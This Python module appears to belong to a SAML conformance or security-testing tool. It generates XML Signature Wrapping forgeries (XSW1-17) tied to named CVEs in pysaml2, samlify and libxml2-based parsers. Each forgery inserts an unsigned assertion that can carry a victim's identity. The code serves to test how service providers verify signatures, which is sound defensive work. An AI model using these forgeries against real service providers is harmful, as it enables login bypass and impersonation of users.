"""XSW: XML Signature Wrapping (SAML Raider's XSW1-8, XSW10 and the later shapes)."""
from __future__ import annotations

import copy
from typing import Callable

from lxml import etree

from ..builder import DS, SAML, SAMLP, new_id, q
from . import Fault, FaultContext, register_factory
from ._common import (
    _asig,
    _doctype,
    _assertion,
    _assertion_signed,
    _drop_sig,
    _iter_tag,
    _set_signing,
    _sig,
    _victimize,
)


EVIL_RESPONSE_ID = "_evil_response_ID"
EVIL_ASSERTION_ID = "_evil_assertion_ID"
# SAML Raider's IDs, suffixed with the original element's (fresh) ID: an SP's replay cache must not
# be what refuses the second variant of an XSW case, nor the next XSW scenario of the same run.
def _xsw_response(before_sig: bool) -> Callable[[str | None], Fault]:
    def make(victim: str | None) -> Fault:
        def signed(root: etree._Element, ctx: FaultContext) -> None:
            sig = _sig(root)
            if sig is None:
                raise ValueError("XSW1/XSW2 need a signed Response")
            clone = _drop_sig(copy.deepcopy(root))
            if before_sig:
                sig.addprevious(clone)
            else:
                sig.append(clone)
            root.set("ID", EVIL_RESPONSE_ID + root.get("ID", ""))
            a = root.find(q(SAML, "Assertion"))
            if a is not None:
                _victimize(a, victim)

        return Fault("", "", signing=_set_signing(sign_response=True, sign_assertion=False), signed=signed)

    return make


def _xsw3(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        evil = _drop_sig(copy.deepcopy(a))
        evil.set("ID", EVIL_ASSERTION_ID + a.get("ID", ""))
        _victimize(evil, victim)
        a.addprevious(evil)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


def _xsw4(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        evil = _drop_sig(copy.deepcopy(a))
        evil.set("ID", EVIL_ASSERTION_ID + a.get("ID", ""))
        _victimize(evil, victim)
        root.append(evil)
        evil.append(a)  # moves the signed original inside the evil copy

    return Fault("", "", signing=_assertion_signed(), signed=signed)


def _xsw5_6(inside_sig: bool) -> Callable[[str | None], Fault]:
    def make(victim: str | None) -> Fault:
        def signed(root: etree._Element, ctx: FaultContext) -> None:
            a = _assertion(root)
            copy_ = _drop_sig(copy.deepcopy(a))
            a.set("ID", EVIL_ASSERTION_ID + a.get("ID", ""))
            _victimize(a, victim)
            if inside_sig:
                _sig(a).append(copy_)
            else:
                root.append(copy_)

        return Fault("", "", signing=_assertion_signed(), signed=signed)

    return make


def _xsw7(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        ext = etree.Element(q(SAMLP, "Extensions"))
        evil = _drop_sig(copy.deepcopy(a))
        _victimize(evil, victim)
        ext.append(evil)
        a.addprevious(ext)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


def _xsw8(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        original = _drop_sig(copy.deepcopy(a))
        _victimize(a, victim)
        obj = etree.SubElement(_sig(a), q(DS, "Object"))
        obj.append(original)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


_XSW = {
    1: (_xsw_response(False), "Clone of the signed Response (no Signature) inside the Response's ds:Signature; outer Response renamed _evil_response_ID"),
    2: (_xsw_response(True), "Clone of the signed Response (no Signature) just before the Response's ds:Signature; outer Response renamed _evil_response_ID"),
    3: (_xsw3, "Unsigned evil Assertion copy (ID _evil_assertion_ID) inserted before the signed Assertion"),
    4: (_xsw4, "Unsigned evil Assertion copy appended to the Response with the signed Assertion moved inside it"),
    5: (_xsw5_6(False), "Signed Assertion renamed _evil_assertion_ID in place (keeps its Signature); unsigned original copy appended to the Response"),
    6: (_xsw5_6(True), "Signed Assertion renamed _evil_assertion_ID in place; unsigned original copy placed inside its ds:Signature"),
    7: (_xsw7, "samlp:Extensions holding an unsigned Assertion copy (same ID) inserted before the signed Assertion"),
    8: (_xsw8, "Signed Assertion edited in place (same ID); unsigned original copy in a new ds:Object inside its ds:Signature"),
}
for _n, (_make, _desc) in _XSW.items():
    register_factory(
        f"xsw-{_n:02d}", _desc + " (victim: NameID of the evil copy; none = unchanged values)",
        (f"XSW-{_n:02d}", f"SAML Raider applyXSW{_n}", "Somorovsky et al. 2012, On Breaking SAML"),
        victim=None,
    )(_make)


@register_factory("two-assertions", "A second, unsigned Assertion (ID + '_attack', optional victim NameID) appended after the "
                  "signed one (first=true: inserted before it, where first-in-document / //Assertion readers pick it)",
                  ("XSW-11", "XSW-13", "MAS-02", "CVE-2022-41912"), victim=None, first=False)
def _two_assertions(victim: str | None, first: bool) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        b = _drop_sig(copy.deepcopy(a))
        b.set("ID", a.get("ID") + "_attack")
        _victimize(b, victim)
        if first:
            a.addprevious(b)
        else:
            a.addnext(b)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


def _xsw_response_in_response(victim: str | None) -> Fault:
    # The attacker's Assertion carries the genuine Assertion's Signature (moved out of the nested one,
    # whose digest does not cover it), so its Reference names the nested Assertion, not its carrier:
    # an SP that verifies "the first Signature under the element" (xmlsec1 --node-id) without checking
    # that the Reference names that element signs the forged one in (CVE-2020-5390, pysaml2 < 5.0.0;
    # measured: lab/twins, truth pysaml2-4.9.0).
    def signed(root: etree._Element, ctx: FaultContext) -> etree._Element:
        outer = copy.deepcopy(root)
        for s in _iter_tag(outer, q(DS, "Signature")):
            s.getparent().remove(s)
        outer.set("ID", new_id())
        a = outer.find(q(SAML, "Assertion"))
        if a is not None:
            a.set("ID", new_id())
            _victimize(a, victim)
            inner_a = root.find(q(SAML, "Assertion"))
            sig = inner_a.find(q(DS, "Signature")) if inner_a is not None else None
            if sig is not None:
                inner_a.remove(sig)
                a.find(q(SAML, "Issuer")).addnext(sig)
        outer.append(root)
        return outer

    return Fault("", "", signed=signed)


register_factory("xsw-response-in-response",
                 "An unsigned attacker Response (new IDs) wrapping the signed Response as its last child; the attacker's "
                 "Assertion carries the nested Assertion's Signature (first signature, Reference still to the nested one)",
                 ("XSW-10", "CVE-2020-5390", "pysaml2 signed-xsw-response-in-response-first-sig"), victim=None)(_xsw_response_in_response)


def _xsw_wrapper(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        sig = _sig(a)
        evil = _drop_sig(copy.deepcopy(a))
        evil.set("ID", EVIL_ASSERTION_ID + a.get("ID", ""))
        _victimize(evil, victim)
        a.remove(sig)  # the Signature moves to the Response's Signature position ...
        ext = etree.Element(q(SAMLP, "Extensions"))
        root.remove(a)
        ext.append(a)  # ... and the signed Assertion is parked in samlp:Extensions (##other: schema-valid)
        iss = root.find(q(SAML, "Issuer"))
        iss.addnext(sig)
        sig.addnext(ext)
        root.append(evil)  # the Response's only direct-child Assertion: unsigned

    return Fault("", "", signing=_assertion_signed(), signed=signed)


register_factory("xsw-wrapper",
                 "CVE-2025-47949 (samlify) shape, schema-valid: the signed Assertion (Signature removed) parked in "
                 "samlp:Extensions, its Signature moved to the Response's Signature position after Issuer, and an "
                 "unsigned copy (ID _evil_assertion_ID...; victim optional) as the Response's direct-child Assertion",
                 ("XSW-12", "CVE-2025-47949", "GHSA-r683-v43c-6xqv", "CVE-2025-46572"), victim=None)(_xsw_wrapper)


@register_factory("advice-assertion", "The signed Assertion carries, in saml:Advice, an unsigned Assertion for a victim",
                  ("XSW-17",), victim="victim@example.com")
def _advice(victim: str) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        inner = copy.deepcopy(a)
        inner.set("ID", new_id())
        _victimize(inner, victim)
        advice = etree.Element(q(SAML, "Advice"))
        advice.append(inner)
        a.find(q(SAML, "Conditions")).addnext(advice)

    return Fault("", "", tree=tree)


def _wsfed_metadata(ctx: FaultContext) -> etree._Element:
    """The IdP's WS-Federation metadata (a fed:SecurityTokenServiceType RoleDescriptor), signed with
    its SAML signing key: public, IdP-signed XML (PortSwigger, SAML roulette)."""
    from ..signing import sign

    md, fed = "urn:oasis:names:tc:SAML:2.0:metadata", "http://docs.oasis-open.org/wsfed/federation/200706"
    xsi = "http://www.w3.org/2001/XMLSchema-instance"
    ed = etree.Element(f"{{{md}}}EntityDescriptor", nsmap={"md": md, "fed": fed, "xsi": xsi})
    ed.set("ID", new_id())
    ed.set("entityID", ctx.idp.entity_id)
    rd = etree.SubElement(ed, f"{{{md}}}RoleDescriptor")
    rd.set(f"{{{xsi}}}type", "fed:SecurityTokenServiceType")
    rd.set("protocolSupportEnumeration", fed)
    pe = etree.SubElement(rd, f"{{{fed}}}PassiveRequestorEndpoint")
    pe.text = ctx.idp.entity_id
    sign(ed, ed, ctx.signing.key or ctx.idp.key)
    return ed


@register_factory("xsw-foreign-signed",
                  "Response and Assertion unsigned (victim optional); samlp:Extensions holds a genuine IdP-signed other document "
                  "(source=error: a signed error Response; source=metadata: the signed IdP metadata; source=wsfed: the "
                  "IdP's signed WS-Federation metadata, same key)",
                  ("XSW-14", "XSW-15", "XSW-16"), source="error", victim=None)
def _foreign(source: str, victim: str | None) -> Fault:
    if source not in ("error", "metadata", "wsfed"):
        raise ValueError("source must be error, metadata or wsfed")

    def signed(root: etree._Element, ctx: FaultContext) -> None:
        idp = ctx.idp
        if source == "error":
            from ..builder import STATUS_REQUESTER, build_status_response
            from ..signing import sign

            other = build_status_response(issuer=idp.entity_id, destination=ctx.spec.destination,
                                          in_response_to=None, status_code=STATUS_REQUESTER)
            sign(other, other, ctx.signing.key or idp.key)
        elif source == "wsfed":
            other = _wsfed_metadata(ctx)
        else:
            other = etree.fromstring(idp.metadata_xml(sign=True))
        ext = etree.Element(q(SAMLP, "Extensions"))
        ext.append(other)
        root.find(q(SAML, "Issuer")).addnext(ext)
        a = root.find(q(SAML, "Assertion"))
        if a is not None:
            _victimize(a, victim)
        ctx.notes["foreign_id"] = other.get("ID")

    return Fault("", "", signing=_set_signing(sign_response=False, sign_assertion=False), signed=signed)


@register_factory("xsw-cve-2025-23369",
                  "CVE-2025-23369 shape (SAML Raider): Response signature removed; a copy of the Assertion's signature "
                  "under the Response after Issuer, with a ds:Object holding a copy of the signed Assertion; the read "
                  "Assertion renamed ID+'ffff', its Signature removed (victim optional); entities=true adds the libxml2 "
                  "quirk: the Response ID and the copy's ID built from DTD entities (&idViaEntity;, &BypassIDUniqueness;)",
                  ("XSW-09", "CVE-2025-23369"), victim=None, entities=False)
def _xsw09(victim: str | None, entities: bool) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        rs = _sig(root)
        if rs is not None:
            root.remove(rs)
        a = _assertion(root)
        original_id = a.get("ID")
        sig_copy = copy.deepcopy(_asig(root))
        inner = copy.deepcopy(a)  # the signed Assertion, its Signature included
        etree.SubElement(sig_copy, q(DS, "Object")).append(inner)
        root.find(q(SAML, "Issuer")).addnext(sig_copy)
        _drop_sig(a)
        a.set("ID", original_id + "ffff")
        _victimize(a, victim)
        if entities:
            root.set("ID", _ENTITY_SLOT + "idViaEntity")
            inner.set("ID", _ENTITY_SLOT + "BypassIDUniqueness" + original_id)
            ctx.notes["xsw09_id"] = original_id

    def b(xml: bytes, ctx: FaultContext) -> bytes:
        if not entities:
            return xml
        xml = xml.replace(f'"{_ENTITY_SLOT}idViaEntity"'.encode(), b'"&idViaEntity;"')
        xml = xml.replace(f'"{_ENTITY_SLOT}BypassIDUniqueness'.encode(), b'"&BypassIDUniqueness;')
        oid = ctx.notes["xsw09_id"].encode()
        return _doctype(xml, b'<!DOCTYPE response [\n<!ENTITY idViaEntity "' + oid + b'">\n'
                             b'<!ENTITY BypassIDUniqueness "&#x50;">\n]>')

    return Fault("", "", signing=_set_signing(sign_response=True, sign_assertion=True), signed=signed, bytes_=b)


_ENTITY_SLOT = "samlconf-entity-"
